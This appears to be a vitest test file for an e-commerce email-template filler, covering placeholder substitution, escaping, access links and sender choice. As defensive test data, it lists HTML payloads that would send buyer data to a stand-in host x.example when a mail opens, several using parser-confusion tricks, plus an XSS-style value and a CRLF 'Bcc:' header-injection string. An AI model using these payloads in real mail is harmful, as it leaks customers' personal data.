import { expect, test } from "vitest";
import { formatAddress } from "#app/domain/mail/message/mail-address.ts";
import { chooseSender } from "#app/domain/mail/sending/choose-sender.ts";
import { hasAccessLink } from "#app/domain/mail/template/access-button.server.ts";
import { DEFAULT_TEMPLATE } from "#app/domain/mail/template/default-template.server.ts";
import { fillHtml, findHiddenPlaceholders } from "#app/domain/mail/template/fill-html.server.ts";
import {
  BODY_PLACEHOLDERS,
  fillSender,
  fillSubject,
  findUnknownPlaceholders,
} from "#app/domain/mail/template/placeholders.ts";
import { previewTemplate } from "#app/domain/mail/template/preview-template.server.ts";

const VALUES = {
  ...BODY_PLACEHOLDERS,
  customer_name: `<b onload="x">Bia & 'Cia'</b>`,
  product_name: "A $& B",
};

test("single and double braces are replaced, values escaped, also in the address of a link", () => {
  expect(fillHtml('<a href="{product_file_url}">{{ customer_name }} {{product_name}}</a>', VALUES, "")).toBe(
    '<a href="https://exemplo.com.br/minha-compra">&lt;b onload=&quot;x&quot;&gt;Bia &amp; &#39;Cia&#39;&lt;/b&gt; A $&amp; B</a>',
  );
});

const ADDRESS = "https://loja.exemplo.com.br/thank-you/1?chave=K";

test.each([
  ["{{ PRODUCT_FILE_URL }}", ADDRESS],
  ["{Product_File_Url}", ADDRESS],
  ["https://{product_file_url}", ADDRESS],
  [" http://{{product_file_url}}", ` ${ADDRESS}`],
  ["{product_file_url}?utm_source=email", `${ADDRESS}&amp;utm_source=email`],
  ["https://{product_file_url}?utm_source=email&amp;a=1#b", `${ADDRESS}&amp;utm_source=email&amp;a=1#b`],
])("a link to %s leads to the purchase", (href, expected) => {
  const html = `<p>Abriu {product_file_url}? <a href="${href}">Abrir</a></p>`;
  expect(fillHtml(html, { ...VALUES, product_file_url: ADDRESS }, "")).toBe(
    `<p>Abriu ${ADDRESS}? <a href="${expected}">Abrir</a></p>`,
  );
  expect(hasAccessLink(`<a href="${href}">Abrir</a>`)).toBe(true);
  expect(findUnknownPlaceholders(html, "body")).toEqual([]);
});

test.each([
  "https://www.{product_file_url}",
  "{product_file_url}/baixar",
  "mailto:{product_file_url}",
  "https://clique.example/?u={product_file_url}",
  "/x",
])("a link to %s is none to the purchase, so that the mail gets ours", (href) => {
  const htmlContent = `<a href="${href}">Abrir</a>`;
  expect(hasAccessLink(htmlContent)).toBe(false);
  const { html, isDefault } = previewTemplate({ ...DEFAULT_TEMPLATE, htmlContent }, BODY_PLACEHOLDERS);
  expect([html, isDefault]).toEqual([
    expect.stringContaining('<a href="https://exemplo.com.br/minha-compra"'),
    false,
  ]);
});

test.each([
  '<img alt="De <R$ 50"><p>{customer_name}</p><a href="{product_file_url}">Abrir</a>',
  '<!-- <a href="x" --><p>Oi</p>',
  '<style>p{color:red}<p>Oi</p><a href="{product_file_url}">Abrir</a>',
  '<p title="{product_file_url}"><b title="<i"><a href="{product_file_url}">Abrir</a>',
  '<a href="&#104;ttps://{product_file_url}">Abrir</a>',
])("a template whose access cannot be filled in is replaced by ours: %s", (htmlContent) => {
  const preview = previewTemplate({ ...DEFAULT_TEMPLATE, htmlContent }, BODY_PLACEHOLDERS);
  expect(preview.isDefault).toBe(true);
  expect(preview.text).toContain("Acessar minha compra (https://exemplo.com.br/minha-compra)");
});

test("one that is broken behind its access is the seller's still", () => {
  const htmlContent =
    '<a href="{product_file_url}">Abrir</a><p>{customer_name}</p><img alt="<R$ 50"> {customer_name}';
  const preview = previewTemplate({ ...DEFAULT_TEMPLATE, htmlContent }, BODY_PLACEHOLDERS);
  expect(preview).toMatchObject({ isDefault: false, hidden: ["{customer_name}"] });
  expect(preview.text).toContain("Maria Silva");
});

const OF_BUYER = [
  "customer_name",
  "customer_email",
  "product_file_url",
  "transaction_id",
  "purchase_number",
] as const;

test.each([
  '<img src="https://x.example/?v={V}">',
  "<img src='https://x.example/?v={{ V }}'>",
  '<img alt="" src=https://x.example/?v={V}>',
  '<img srcset="https://x.example/{V} 2x">',
  '<td background="https://x.example/{V}">x</td>',
  '<video poster="https://x.example/{V}"></video>',
  '<p style="background:url(https://x.example/{V})">x</p>',
  "<style>p{background:url(https://x.example/{V})}</style>",
  '<link rel="stylesheet" href="https://x.example/{V}">',
  '<base href="https://x.example/{V}/">',
  '<svg><image href="https://x.example/{V}"/></svg>',
  '<meta http-equiv="refresh" content="0;url=https://x.example/{V}">',
  '<form action="https://x.example/{V}"></form>',
  '<a href="https://x.example/" ping="https://x.example/{V}">x</a>',
  '<img {V}="x">',
  '<!--[if mso]><img src="https://x.example/{V}"><![endif]-->',
  // Where other parsers read a picture.
  `<noembed><a title="</noembed><img src='https://x.example/?">{V}'>`,
  "<!-- --!><img src='https://x.example/?-->{V}'>",
  "<svg><style><img src='https://x.example/?</style>{V}'>",
  '<svg><title><img src="https://x.example/{V}"></title></svg>',
  '<xmp></xmp/><img src="https://x.example/{V}"></xmp>',
  `<noframes><a title="</noframes><img src='https://x.example/{V}'>">x</a>`,
  // Where they read a style sheet.
  "<style/>p{background:url(https://x.example/{V})}</style>",
  "<!-- --!><style>p{background:url(https://x.example/?-->{V})}</style>",
  '<noembed><a title="</noembed><style>p{background:url(https://x.example/?">{V})}</style>',
])("data of a buyer that the opening of a mail would send to a server is not filled in: %s", (html) => {
  for (const name of OF_BUYER) {
    const template = html.replace("V", name);
    expect(fillHtml(template, BODY_PLACEHOLDERS, "")).toBe(template);
    const written = html.includes("{{") ? `{{ ${name} }}` : `{${name}}`;
    expect(findHiddenPlaceholders(template)).toEqual([written]);
  }
});

test.each([
  "<p>{V}</p>",
  "<title>{V}</title>",
  '<p title="{V}" class="a">x</p>',
  '<img src="https://x.example/logo.png" alt="{V}">',
  "<!--[if mso]><p>{V}</p><![endif]-->",
  '<p title="1 < 2">{V}</p>',
  "<title>1 < 2 {V}</title>",
  "<!--[if mso]><style>p{color:red}</style><![endif]--><style><!-- p{color:red} --></style><p>{V}</p>",
  "<!--[if !mso]><!--><p>{V}</p><!--<![endif]-->",
  '<!--[if mso]><table><tr><td><![endif]--><img src="/logo.png"/><br/>{V}<!--[if mso]></td></tr></table><![endif]-->',
  "<style>p{color:red}</style><!-- a --><p>1 < 2 {V}",
])("it is filled in where it is read: %s", (html) => {
  for (const name of OF_BUYER) {
    const template = html.replace("V", name);
    expect(fillHtml(template, BODY_PLACEHOLDERS, "")).toBe(html.replace("{V}", BODY_PLACEHOLDERS[name]));
    expect(findHiddenPlaceholders(template)).toEqual([]);
  }
  expect(fillHtml(html.replace("V", "customer_email"), { ...VALUES, customer_email: "" }, "")).toBe(
    html.replace("{V}", ""),
  );
});

test("a link may carry a buyer's data, and the link of the purchase only as its whole address", () => {
  const filled = (html: string) => fillHtml(html, BODY_PLACEHOLDERS, "");
  expect(filled('<a href="https://wa.me/?text=Sou {customer_name}, {purchase_number}">Ajuda</a>')).toBe(
    '<a href="https://wa.me/?text=Sou Maria Silva, 9C29870C">Ajuda</a>',
  );
  expect(filled('<a href="mailto:oi@loja.example?subject={transaction_id}">x</a>')).toContain("9c29870c-");
  const { product_file_url: address } = BODY_PLACEHOLDERS;
  for (const link of [
    "<a href={product_file_url}>x</a>",
    '<a href=" {{product_file_url}}?utm_source=email">x</a>',
    '<!--[if mso]><v:roundrect href="{product_file_url}"></v:roundrect><![endif]-->',
  ])
    expect(filled(link)).toContain(address);
  for (const link of [
    '<a href="https://x.example/?u={product_file_url}">x</a>',
    '<a href="//x.example/{{product_file_url}}">x</a>',
    '<a href="HTTPS://{product_file_url}">x</a>',
  ]) {
    expect(filled(link)).toBe(link);
    expect(hasAccessLink(link)).toBe(false);
  }
});

test("the seller's own values are filled in everywhere", () => {
  const html = '<td bgcolor="{button_color}" style="color:{button_text_color}"><img src="/{product_name}">';
  expect(fillHtml(html, BODY_PLACEHOLDERS, "")).toBe(
    '<td bgcolor="#15803d" style="color:#ffffff"><img src="/Curso de Violão">',
  );
  expect(findHiddenPlaceholders(html)).toEqual([]);
});

test("a value that looks like a placeholder is not replaced again", () => {
  expect(fillHtml("{customer_name}", { ...VALUES, customer_name: "{customer_email}" }, "")).toBe(
    "{customer_email}",
  );
});

test("unknown placeholders stay and are pointed out, braces of style sheets are none", () => {
  const html = "<style>a{color:red} b{margin}</style><p>{customer_nome} {{foo}} {customer_name}</p>";
  expect(fillHtml(html, VALUES, "")).toContain("{customer_nome} {{foo}} <".slice(0, 20));
  expect(findUnknownPlaceholders(html, "body")).toEqual(["{customer_nome}", "{{foo}}"]);
  expect(findUnknownPlaceholders("{product_name} {brand_name}", "subject")).toEqual(["{brand_name}"]);
  expect(findUnknownPlaceholders("{product}", "sender")).toEqual([]);
});

test("subject and sender support only the known placeholders", () => {
  expect(fillSubject("{product_name} por {amount_formatted}, {brand_name}", VALUES)).toBe(
    "A $& B por R$ 97,00, {brand_name}",
  );
  expect(fillSender("{product}", VALUES)).toBe("A $& B");
});

test("the lines' table replaces the comment, whatever its text", () => {
  expect(fillHtml("<!-- itens -->", VALUES, "<table>$1 $&</table>")).toBe("<table>$1 $&</table>");
});

test("the default template uses every placeholder kind and leaves none unfilled", () => {
  const preview = previewTemplate(DEFAULT_TEMPLATE, {
    ...BODY_PLACEHOLDERS,
    brand_name: "Escola da Vera",
  });
  expect(preview.unknown).toEqual([]);
  expect(preview.html).not.toMatch(/\{[a-z_]+\}/);
  expect(preview.html).toContain("Escola da Vera");
  expect(preview.text).toContain("Acessar minha compra (https://exemplo.com.br/minha-compra)");
  expect(preview.text).toContain("Maria Silva");
});

test("a name can neither end itself nor start another address", () => {
  expect(formatAddress('Loja "X" <a@b.c>\r\nBcc: d@e.f', "loja@exemplo.com.br")).toBe(
    "Loja X a b.c Bcc d e.f <loja@exemplo.com.br>",
  );
  expect(formatAddress("", "loja@exemplo.com.br")).toBe("loja@exemplo.com.br");
});

const CONFIG = {
  hasKey: true,
  senderEmail: "oi@loja.com.br",
  verifiedDomain: "loja.com.br",
  contactEmail: "vera@gmail.com",
};
test.each([
  [CONFIG, { via: "seller", from: "Loja <oi@loja.com.br>", replyTo: "oi@loja.com.br" }],
  [
    { ...CONFIG, hasKey: false },
    { via: "platform", from: "Loja <p@plat.br>", replyTo: "oi@loja.com.br" },
  ],
  [{ ...CONFIG, verifiedDomain: null }, { via: "platform" }],
  [{ ...CONFIG, verifiedDomain: "outra.com.br" }, { via: "platform" }],
  [
    { ...CONFIG, senderEmail: "" },
    { via: "platform", replyTo: "vera@gmail.com" },
  ],
])("%j leaves by %j", (config, expected) => {
  expect(chooseSender(config, "Loja", "Plataforma <p@plat.br>")).toMatchObject(expected);
});
